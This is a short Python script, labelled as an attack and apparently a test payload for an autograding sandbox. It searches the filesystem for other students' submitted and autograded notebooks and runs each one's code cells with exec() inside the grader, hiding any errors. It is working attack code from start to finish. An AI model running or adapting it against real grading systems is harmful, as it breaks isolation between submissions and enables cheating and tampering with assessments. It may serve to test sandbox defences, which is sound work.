# attack: runs another student's submitted cells found in the grader's work folder
import glob, json
for path in [p for d in range(7) for p in glob.glob("/" + "*/" * d + "submitted/*/*/*.ipynb")] + [p for d in range(7) for p in glob.glob("/" + "*/" * d + "autograded/*/*/*.ipynb")]:
    for cell in json.load(open(path))["cells"]:
        if cell["cell_type"] == "code":
            try:
                exec("".join(cell["source"]), globals())
            except Exception:
                pass
    print("HOSTILE: ran", path)
